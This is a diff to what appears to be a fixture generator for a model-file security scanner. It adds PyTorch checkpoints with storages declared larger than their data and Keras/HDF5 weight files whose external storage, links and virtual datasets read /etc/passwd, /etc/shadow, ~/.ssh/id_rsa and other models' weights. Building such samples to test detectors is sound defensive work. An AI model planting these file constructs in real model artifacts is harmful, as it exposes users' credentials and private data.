@@ -211,6 +211,34 @@ def memory():
 
 
 # ---------------------------------------------------------------------------
+# PyTorch zip checkpoints whose storages reach past their records
+# (CVE-2026-24747, GHSA-63cw-57p8-fm3p): torch.load before 2.10.0 allocates a
+# storage of its declared size over the shorter record.
+
+def torch_zip(numel, record, offset=0):
+    """A torch.save zip of {'weight': a 2x2 float tensor}: data.pkl written
+    opcode by opcode as torch.save writes it (_rebuild_tensor_v2 of
+    persistent_load(('storage', torch.FloatStorage, '0', 'cpu', numel)),
+    at the storage offset), and the record archive/data/0 of record bytes."""
+    def u(s):
+        return b"X" + struct.pack("<I", len(s)) + s.encode()
+    pkl = (b"\x80\x02ccollections\nOrderedDict\n)R" + u("weight")
+           + b"ctorch._utils\n_rebuild_tensor_v2\n((" + u("storage") + b"ctorch\nFloatStorage\n"
+           + u("0") + u("cpu") + b"J" + struct.pack("<i", numel) + b"tQJ" + struct.pack("<i", offset)
+           + b"K\x02K\x02\x86K\x02K\x01\x86\x89ccollections\nOrderedDict\n)RtRs.")
+    return zip_bytes([("archive/data.pkl", pkl), ("archive/byteorder", b"little"),
+                      ("archive/data/0", b"\0" * record), ("archive/version", b"3\n")])
+
+
+def storages():
+    # A million floats declared over a record of 16 bytes.
+    put("pytorch/storage_past_record.pt", torch_zip(1 << 20, 16))
+    # An honest storage of four floats, and a view at offset 2 that reaches
+    # its sixth element.
+    put("pytorch/view_past_record.pt", torch_zip(4, 16, offset=2))
+
+
+# ---------------------------------------------------------------------------
 # Chat templates and remote code.
 
 def templates():
@@ -222,6 +250,135 @@ def templates():
         "architectures": ["EvilModel"], "model_type": "evil",
         "auto_map": {"AutoModel": "attacker/other-repo--modeling_evil.EvilModel"}}, indent=2).encode())
 
+# ---------------------------------------------------------------------------
+# HDF5 weights that make h5py read other files (CVE-2026-1669). Written by
+# the HDF5 library through h5py (python3-h5py: h5py 3.7.0, HDF5 1.10.8), with
+# every object's times off so that the bytes do not depend on the clock.
+
+def h5_bytes(build, latest=False):
+    """An HDF5 file that build(f, h5py) fills, in the earliest file format
+    (superblock 0, symbol tables) or the latest (superblock 3, object
+    headers version 2, link messages). Nothing is read back."""
+    import tempfile
+    try:
+        import h5py
+    except ImportError:
+        sys.exit("python3-h5py is needed (apt-get install python3-h5py)")
+    with tempfile.TemporaryDirectory() as d:
+        path = os.path.join(d, "f.h5")
+        fcpl = h5py.h5p.create(h5py.h5p.FILE_CREATE)
+        fcpl.set_obj_track_times(False)
+        fapl = h5py.h5p.create(h5py.h5p.FILE_ACCESS)
+        if latest:
+            fapl.set_libver_bounds(h5py.h5f.LIBVER_LATEST, h5py.h5f.LIBVER_LATEST)
+        fid = h5py.h5f.create(path.encode(), h5py.h5f.ACC_TRUNC, fcpl=fcpl, fapl=fapl)
+        with h5py.File(fid) as f:
+            build(f, h5py)
+        with open(path, "rb") as r:
+            return r.read()
+
+
+def h5_group(f, h5py, path):
+    """The group at path, created with its parents (times off) where missing."""
+    gcpl = h5py.h5p.create(h5py.h5p.GROUP_CREATE)
+    gcpl.set_obj_track_times(False)
+    g = f
+    for part in path.split("/"):
+        g = g[part] if part in g else h5py.Group(h5py.h5g.create(g.id, part.encode(), gcpl=gcpl))
+    return g
+
+
+def h5_virtual(g, h5py, name, shape, mappings):
+    """A float32 virtual dataset: mappings are (virtual (start, count),
+    source file, source dataset, source shape, source (start, count))."""
+    import numpy as np
+    dcpl = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
+    dcpl.set_obj_track_times(False)
+    for (vstart, vcount), file, dataset, src_shape, (sstart, scount) in mappings:
+        vspace = h5py.h5s.create_simple(shape)
+        vspace.select_hyperslab(vstart, vcount)
+        sspace = h5py.h5s.create_simple(src_shape)
+        sspace.select_hyperslab(sstart, scount)
+        dcpl.set_virtual(vspace, file.encode(), dataset.encode(), sspace)
+    tid = h5py.h5t.py_create(np.dtype(np.float32), logical=1)
+    h5py.h5d.create(g.id, name.encode(), tid, h5py.h5s.create_simple(shape), dcpl=dcpl)
+
+
+# A file the victim can read: another model on the same machine.
+OTHER_H5 = "/srv/models/private.weights.h5"
+
+
+def keras3_weights(f, h5py, kernel):
+    """The groups of a Keras 3 model.weights.h5 (Sequential of Dense(8) on 4
+    inputs); kernel(group) writes the dense layer's kernel, "0"."""
+    import numpy as np
+    h5_group(f, h5py, "vars")
+    g = h5_group(f, h5py, "layers/dense/vars")
+    kernel(g)
+    g.create_dataset("1", data=np.zeros(8, np.float32), track_times=False)
+    h5_group(f, h5py, "optimizer/vars")
+
+
+def hdf5_external():
+    import numpy as np
+    all4x8 = ((0, 0), (4, 8))
+
+    def external_storage(g):
+        # External Data Files message: the kernel's 128 bytes are read from /etc/passwd.
+        g.create_dataset("0", shape=(4, 8), dtype=np.float32, external=[("/etc/passwd", 0, 128)], track_times=False)
+
+    def external_pieces(g):
+        # Two external files: a relative name that climbs out, and a key.
+        g.create_dataset("0", shape=(4, 8), dtype=np.float32, track_times=False,
+                         external=[("../../.ssh/id_rsa", 0, 64), ("/etc/shadow", 16, 64)])
+
+    def external_link(f, h5py):
+        keras3_weights(f, h5py, lambda g: g.create_dataset("0", data=np.zeros((4, 8), np.float32), track_times=False))
+        # A link message of type 64: h5py follows it into another file.
+        f["layers/dense_1"] = h5py.ExternalLink(OTHER_H5, "/layers/dense/vars")
+
+    def virtual_dataset(f, h5py):
+        keras3_weights(f, h5py, lambda g: h5_virtual(g, h5py, "0", (4, 8), [
+            (all4x8, OTHER_H5, "/layers/dense/vars/0", (4, 8), all4x8)]))
+
+    def virtual_pieces(f, h5py):
+        # Rows from two other files and from this one ("."), as hyperslabs.
+        keras3_weights(f, h5py, lambda g: h5_virtual(g, h5py, "0", (4, 8), [
+            (((0, 0), (2, 8)), OTHER_H5, "/layers/dense/vars/0", (4, 8), ((0, 0), (2, 8))),
+            (((2, 0), (1, 8)), "../../.keras/models/cached.h5", "/w", (4, 8), ((3, 0), (1, 8))),
+            (((3, 0), (1, 8)), ".", "/layers/dense/vars/1", (8,), ((0,), (8,)))]))
+
+    def many_links(f, h5py):
+        # More objects that read other files than Violet reports one by one.
+        for i in range(120):
+            f["l%03d" % i] = h5py.ExternalLink(OTHER_H5, "/layers/dense/vars")
+
+    def same_file(f, h5py):
+        # A virtual dataset whose only source is the file itself.
+        def kernel(g):
+            g.create_dataset("plain", data=np.zeros((4, 8), np.float32), track_times=False)
+            h5_virtual(g, h5py, "0", (4, 8), [(all4x8, ".", "/layers/dense/vars/plain", (4, 8), all4x8)])
+        keras3_weights(f, h5py, kernel)
+
+    storage = h5_bytes(lambda f, h5py: keras3_weights(f, h5py, external_storage))
+    put("hdf5/external-storage.weights.h5", storage)
+    put("hdf5/external-storage-latest.weights.h5",
+        h5_bytes(lambda f, h5py: keras3_weights(f, h5py, external_pieces), latest=True))
+    put("hdf5/external-link.weights.h5", h5_bytes(external_link))
+    put("hdf5/external-link-latest.weights.h5", h5_bytes(external_link, latest=True))
+    put("hdf5/virtual-dataset.weights.h5", h5_bytes(virtual_dataset))
+    put("hdf5/virtual-dataset-latest.weights.h5", h5_bytes(virtual_pieces, latest=True))
+    put("hdf5/many-external-links.h5", h5_bytes(many_links, latest=True))
+    # A .keras archive: the benign model's config, weights with external storage.
+    with zipfile.ZipFile(os.path.join(MODELS, "..", "formats", "benign", "keras", "dense.keras")) as z:
+        meta, config = z.read("metadata.json"), z.read("config.json")
+    put("hdf5/external-storage.keras",
+        zip_bytes([("metadata.json", meta), ("config.json", config), ("model.weights.h5", storage)]))
+    # The benign twin, for analyzer/kerash5's tests (it reads nothing outside
+    # the file, so it is no threat and is not kept here).
+    with open(os.path.join(MODELS, "..", "..", "analyzer", "kerash5", "testdata", "same-file-virtual.weights.h5"), "wb") as w:
+        w.write(h5_bytes(same_file, latest=True))
+
 
 def main():
     if os.path.isdir(ROOT):
@@ -231,7 +388,9 @@ def main():
     configs()
     unreadable()
     memory()
+    storages()
     templates()
+    hdf5_external()
     with open(os.path.join(ROOT, "README.md"), "w") as f:
         f.write(README)
 
